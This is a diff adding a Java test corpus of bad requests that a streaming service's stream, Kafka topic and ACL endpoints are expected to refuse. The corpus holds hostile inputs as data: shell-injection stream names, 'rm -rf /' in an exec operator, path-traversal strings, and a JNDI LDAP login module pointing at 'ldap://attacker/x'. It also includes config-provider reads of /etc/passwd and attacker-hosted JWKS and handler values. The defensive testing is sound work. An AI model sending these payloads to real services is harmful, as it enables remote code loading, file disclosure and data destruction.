@@ -1,0 +1,167 @@
+package org.hyperiot.streaming.itests;
+
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.List;
+
+/**
+ * Requests that must be refused with a 4xx problem and change nothing: malformed and truncated JSON,
+ * wrong types, unknown fields, huge numbers, an oversized body, path tricks, control and shell
+ * characters, overlong names, every dangerous Kafka property of SPEC §7, unknown processors and
+ * duplicates, across every mutating route.
+ */
+final class BadInputCorpus {
+
+    private static final String JSON = "application/json";
+
+    private BadInputCorpus() {
+    }
+
+    /**
+     * @param existing a stream that exists, reading {@code input} and writing {@code output}, topics that exist
+     */
+    static List<BadRequest> cases(String existing, String input, String output) {
+        List<BadRequest> cases = new ArrayList<>();
+        String valid = "{\"name\":\"corpus-new\",\"source\":{\"topics\":[\"" + input + "\"]},\"sink\":{\"topic\":\"" + output + "\"}}";
+
+        // POST /streams: JSON that is not JSON, or not an object.
+        stream(cases, "empty body", "", 400);
+        stream(cases, "truncated object", "{\"name\":\"corpus-a\",\"source\":{\"topics\":[\"" + input + "\"]", 400);
+        stream(cases, "truncated after a comma", "{\"name\":\"corpus-a\",", 400);
+        stream(cases, "lone brace", "{", 400);
+        stream(cases, "array instead of object", "[]", 0);
+        stream(cases, "string instead of object", "\"stream\"", 0);
+        stream(cases, "null document", "null", 0);
+        stream(cases, "number document", "42", 0);
+        stream(cases, "form encoding", "name=corpus-a&source=x", 400);
+        stream(cases, "trailing garbage", valid + " {\"again\":1}", 400);
+        stream(cases, "duplicate keys", valid.replace("{\"name\":\"corpus-new\",", "{\"name\":\"corpus-a\",\"name\":\"corpus-b\","), 400);
+        stream(cases, "single quotes", valid.replace('"', '\''), 400);
+        stream(cases, "comment in JSON", "/* hi */" + valid, 400);
+        stream(cases, "deeply nested arrays", "[".repeat(100_000) + "]".repeat(100_000), 0);
+        stream(cases, "deeply nested objects in a field", valid.replace("\"sink\"", "\"x\":" + "{\"a\":".repeat(5_000)
+                + "1" + "}".repeat(5_000) + ",\"sink\""), 0);
+        streamBytes(cases, "invalid UTF-8", new byte[] {'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'}, 0);
+        // Wrong types, unknown fields, numbers out of range.
+        stream(cases, "unknown top-level field", valid.replace("}}", "},\"bogus\":true}"), 422);
+        stream(cases, "unknown source field", valid.replace("\"topics\"", "\"bogus\":1,\"topics\""), 422);
+        stream(cases, "name is a number", valid.replace("\"corpus-new\"", "17"), 422);
+        stream(cases, "topics is a string", valid.replace("[\"" + input + "\"]", "\"" + input + "\""), 422);
+        stream(cases, "parallelism is text", valid.replace("{\"name\"", "{\"parallelism\":\"two\",\"name\""), 422);
+        stream(cases, "parallelism beyond long", valid.replace("{\"name\"", "{\"parallelism\":99999999999999999999999,\"name\""), 422);
+        stream(cases, "parallelism 1e400", valid.replace("{\"name\"", "{\"parallelism\":1e400,\"name\""), 422);
+        stream(cases, "negative parallelism", valid.replace("{\"name\"", "{\"parallelism\":-1,\"name\""), 422);
+        stream(cases, "commit interval of 10^30 ms", valid.replace("{\"name\"", "{\"commitInterval\":\"1000000000000000000000000000000ms\",\"name\""), 422);
+        stream(cases, "unknown guarantee", valid.replace("{\"name\"", "{\"guarantee\":\"twice\",\"name\""), 422);
+        stream(cases, "unknown mode", valid.replace("{\"name\"", "{\"mode\":\"turbo\",\"name\""), 422);
+        stream(cases, "unknown engine", valid.replace("{\"name\"", "{\"engine\":\"spark\",\"name\""), 422);
+        stream(cases, "missing sink", "{\"name\":\"corpus-a\",\"source\":{\"topics\":[\"" + input + "\"]}}", 422);
+        stream(cases, "empty source topics", valid.replace("[\"" + input + "\"]", "[]"), 422);
+        stream(cases, "window of zero seconds", pipeline(valid, "[{\"op\":\"keyBy\",\"field\":\"d\"},{\"op\":\"window\",\"type\":\"tumbling\",\"size\":\"0s\",\"aggregate\":[{\"fn\":\"count\",\"as\":\"n\"}]}]"), 422);
+        stream(cases, "window of ten parsecs", pipeline(valid, "[{\"op\":\"window\",\"type\":\"tumbling\",\"size\":\"10 parsecs\",\"aggregate\":[{\"fn\":\"count\",\"as\":\"n\"}]}]"), 422);
+        stream(cases, "unknown operator", pipeline(valid, "[{\"op\":\"exec\",\"command\":\"rm -rf /\"}]"), 422);
+        stream(cases, "unknown processor", pipeline(valid, "[{\"op\":\"processor\",\"name\":\"no-such-processor\"}]"), 422);
+        stream(cases, "unknown aggregator", pipeline(valid, "[{\"op\":\"window\",\"type\":\"tumbling\",\"size\":\"1s\",\"aggregate\":[{\"fn\":\"custom\",\"name\":\"no-such-aggregator\",\"as\":\"x\"}]}]"), 422);
+        // Names: path tricks, control and shell characters, length.
+        for (String name : List.of("../etc", "..%2f..%2fetc", "%2e%2e%2f", "corpus\\u0000nul", "a;rm -rf /", "$(reboot)",
+                "`id`", "a|b", "UPPER", " leading-space", "x".repeat(10_000), "")) {
+            stream(cases, "stream name '" + abbreviate(name) + "'", valid.replace("corpus-new", name), 422);
+        }
+        stream(cases, "duplicate stream name", valid.replace("corpus-new", existing), 409);
+        // Dangerous Kafka properties have no place in a definition: unknown fields, refused.
+        stream(cases, "JNDI login module in the source", valid.replace("\"topics\"", "\"kafka\":{\"sasl.jaas.config\":"
+                + "\"com.sun.security.auth.module.JndiLoginModule required user.provider.url=\\\"ldap://attacker/x\\\";\"},\"topics\""), 422);
+        // Size and media type.
+        streamBytes(cases, "2 MiB body", (valid.substring(0, valid.length() - 1) + ",\"description\":\""
+                + "x".repeat(2 * 1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8), 413);
+        cases.add(new BadRequest("text/plain body", "POST", "/streams", valid.getBytes(StandardCharsets.UTF_8), "text/plain", 415));
+        cases.add(new BadRequest("XML body", "POST", "/streams", "<stream name=\"x\"/>".getBytes(StandardCharsets.UTF_8),
+                "application/xml", 415));
+
+        // PUT, DELETE and controls of /streams/{name}.
+        cases.add(json("replace an unknown stream", "PUT", "/streams/corpus-nobody", valid.replace("corpus-new", "corpus-nobody"), 404));
+        cases.add(json("replace with another name", "PUT", "/streams/" + existing, valid, 422));
+        cases.add(json("replace with malformed JSON", "PUT", "/streams/" + existing, "{\"name\":", 400));
+        cases.add(json("replace with ../ in the path", "PUT", "/streams/..%2F" + existing, valid.replace("corpus-new", existing), 0));
+        cases.add(new BadRequest("delete an unknown stream", "DELETE", "/streams/corpus-nobody", null, null, 404));
+        cases.add(new BadRequest("delete with encoded ../", "DELETE", "/streams/%2e%2e%2f%2e%2e%2fetc", null, null, 0));
+        cases.add(new BadRequest("delete with NUL", "DELETE", "/streams/corpus%00x", null, null, 400, true));
+        cases.add(new BadRequest("purgeState=maybe", "DELETE", "/streams/" + existing + "?purgeState=maybe", null, null, 400));
+        cases.add(new BadRequest("start an unknown stream", "POST", "/streams/corpus-nobody/start", new byte[0], JSON, 404));
+        cases.add(new BadRequest("stop with shell characters", "POST", "/streams/a%3Breboot/stop", new byte[0], JSON, 404));
+        cases.add(new BadRequest("restart a 10,000-character name", "POST", "/streams/" + "y".repeat(10_000) + "/restart",
+                new byte[0], JSON, 414, true));
+        cases.add(new BadRequest("stop a 200-character name", "POST", "/streams/" + "y".repeat(200) + "/stop",
+                new byte[0], JSON, 404));
+
+        // POST /kafka/topics.
+        String topic = "{\"name\":\"corpus-topic\",\"partitions\":1}";
+        topic(cases, "malformed topic", "{\"name\":", 400);
+        topic(cases, "topic with unknown field", topic.replace("}", ",\"bogus\":1}"), 0);
+        topic(cases, "topic name ../x", topic.replace("corpus-topic", "../x"), 422);
+        topic(cases, "topic name with a space", topic.replace("corpus-topic", "a b"), 422);
+        topic(cases, "topic name of 10,000 characters", topic.replace("corpus-topic", "t".repeat(10_000)), 422);
+        topic(cases, "topic name with NUL", topic.replace("corpus-topic", "a\\u0000b"), 422);
+        topic(cases, "zero partitions", topic.replace("1}", "0}"), 422);
+        topic(cases, "negative partitions", topic.replace("1}", "-3}"), 422);
+        topic(cases, "partitions beyond int", topic.replace("1}", "2147483648}"), 0);
+        topic(cases, "partitions as text", topic.replace("1}", "\"three\"}"), 0);
+        topic(cases, "replication beyond the brokers", topic.replace("}", ",\"replicationFactor\":100}"), 0);
+        topic(cases, "existing topic", topic.replace("corpus-topic", input), 409);
+        for (String config : List.of(
+                "\"sasl.jaas.config\":\"com.sun.security.auth.module.JndiLoginModule required user.provider.url=\\\"ldap://attacker/x\\\";\"",
+                "\"config.providers\":\"file\"",
+                "\"config.providers.file.class\":\"org.apache.kafka.common.config.provider.FileConfigProvider\"",
+                "\"retention.ms\":\"${file:/etc/passwd:x}\"",
+                "\"retention.ms\":\"${env:HOME}\"",
+                "\"ssl.truststore.location\":\"/etc/passwd\"",
+                "\"sasl.oauthbearer.jwks.endpoint.url\":\"http://attacker/jwks\"",
+                "\"sasl.login.callback.handler.class\":\"com.attacker.Handler\"",
+                "\"unknown.setting\":\"1\"",
+                "\"cleanup.policy\":\"compact\\u0000\"",
+                "\"retention.ms\":\"" + "9".repeat(2_000) + "\"")) {
+            topic(cases, "topic config " + abbreviate(config), topic.replace("}", ",\"configs\":{" + config + "}}"), 422);
+        }
+        cases.add(new BadRequest("delete an unknown topic", "DELETE", "/kafka/topics/corpus-no-such-topic", null, null, 404));
+        cases.add(new BadRequest("delete a topic with encoded ../", "DELETE", "/kafka/topics/%2e%2e%2f" + input, null, null, 0));
+
+        // /kafka/acls.
+        String acl = "{\"resourceType\":\"TOPIC\",\"resourceName\":\"corpus\",\"principal\":\"User:corpus\",\"operation\":\"READ\"}";
+        acl(cases, "malformed ACL", "{\"resourceType\":", 400);
+        acl(cases, "unknown operation", acl.replace("READ", "FLY"), 0);
+        acl(cases, "unknown resource type", acl.replace("TOPIC", "UNIVERSE"), 0);
+        acl(cases, "principal without a type", acl.replace("User:corpus", "corpus"), 0);
+        acl(cases, "missing principal", acl.replace(",\"principal\":\"User:corpus\"", ""), 0);
+        acl(cases, "ACL with unknown field", acl.replace("}", ",\"bogus\":1}"), 0);
+        cases.add(new BadRequest("delete every ACL (no filter)", "DELETE", "/kafka/acls", null, null, 422));
+        return cases;
+    }
+
+    private static String pipeline(String definition, String pipeline) {
+        return definition.replace(",\"sink\"", ",\"pipeline\":" + pipeline + ",\"sink\"");
+    }
+
+    private static void stream(List<BadRequest> cases, String label, String body, int status) {
+        streamBytes(cases, label, body.getBytes(StandardCharsets.UTF_8), status);
+    }
+
+    private static void streamBytes(List<BadRequest> cases, String label, byte[] body, int status) {
+        cases.add(new BadRequest(label, "POST", "/streams", body, JSON, status));
+    }
+
+    private static void topic(List<BadRequest> cases, String label, String body, int status) {
+        cases.add(json(label, "POST", "/kafka/topics", body, status));
+    }
+
+    private static void acl(List<BadRequest> cases, String label, String body, int status) {
+        cases.add(json(label, "POST", "/kafka/acls", body, status));
+    }
+
+    private static BadRequest json(String label, String method, String path, String body, int status) {
+        return new BadRequest(label, method, path, body.getBytes(StandardCharsets.UTF_8), JSON, status);
+    }
+
+    private static String abbreviate(String text) {
+        return text.length() <= 40 ? text : text.substring(0, 40) + "… (" + text.length() + " chars)";
+    }
+}
